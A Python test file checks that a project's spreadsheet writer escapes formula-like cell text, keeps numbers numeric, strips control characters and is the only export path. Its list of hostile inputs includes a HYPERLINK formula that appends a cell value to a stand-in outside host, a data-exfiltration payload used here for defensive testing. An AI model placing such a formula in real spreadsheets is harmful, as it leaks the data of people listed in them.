"""The one spreadsheet writer: text never becomes a formula, numbers stay numbers."""

import io
import re
from pathlib import Path

import openpyxl
from openpyxl.xml import LXML

from dayao_sscard.spreadsheets import XlsxWorkbook

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&H2,"点击查看")',
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "#N/A",
]


def written_cells(rows: list[list]) -> list:
    stream = io.BytesIO()
    workbook = XlsxWorkbook()
    sheet = workbook.sheet("名单", header=["内容", "金额"], widths={"A": 40})
    for row in rows:
        sheet.append(row)
    workbook.save(stream)
    stream.seek(0)
    return list(openpyxl.load_workbook(stream).active.iter_rows(min_row=2))


def test_no_text_becomes_a_formula_and_the_text_reads_the_same():
    cells = written_cells([[text, 1] for text in HOSTILE])
    assert [row[0].data_type for row in cells] == ["s"] * len(HOSTILE)
    # openpyxl writes with lxml when it is installed (pyhanko and pikepdf need it), which
    # keeps a CR as "&#13;"; the standard library's writer leaves a bare CR, which XML
    # reads as a line break: "\r=1+1" then reads back as "\n=1+1".
    expected = HOSTILE if LXML else [text.replace("\r", "\n") for text in HOSTILE]
    assert [row[0].value for row in cells] == list(expected)
    assert all(row[0].quotePrefix for row in cells)


def test_numbers_stay_numbers_and_identifiers_stay_text():
    cells = written_cells([["532326199001011234", -12.5], ["13800000000", 300]])
    assert [(row[0].value, row[0].data_type) for row in cells] == [
        ("532326199001011234", "s"),
        ("13800000000", "s"),
    ]
    assert [(row[1].value, row[1].data_type) for row in cells] == [(-12.5, "n"), (300, "n")]


def test_control_characters_from_a_list_do_not_break_the_file():
    cells = written_cells([["张\x00三\x07", 1]])
    assert cells[0][0].value == "张三"


def test_header_is_bold_and_plain_text_is_untouched():
    stream = io.BytesIO()
    workbook = XlsxWorkbook()
    workbook.sheet("名单", header=["姓名"]).append(["李四"])
    workbook.save(stream)
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).active
    assert sheet["A1"].font.b and sheet["A1"].value == "姓名"
    assert sheet["A2"].value == "李四" and not sheet["A2"].quotePrefix


def test_every_download_goes_through_this_writer():
    # No app writes a spreadsheet of its own: a new export cannot forget the escaping.
    root = Path(__file__).resolve().parents[2]
    apps = [path.parent for path in root.glob("*/apps.py")]
    allowed = {root / "dayao_sscard/spreadsheets.py", root / "dayao_sscard/bulk.py"}  # bulk: COPY
    writers = [
        path.relative_to(root).as_posix()
        for app in apps
        for path in app.rglob("*.py")
        if path not in allowed and re.search(r"openpyxl|csv\.(writer|DictWriter)", path.read_text())
    ]
    assert writers == []
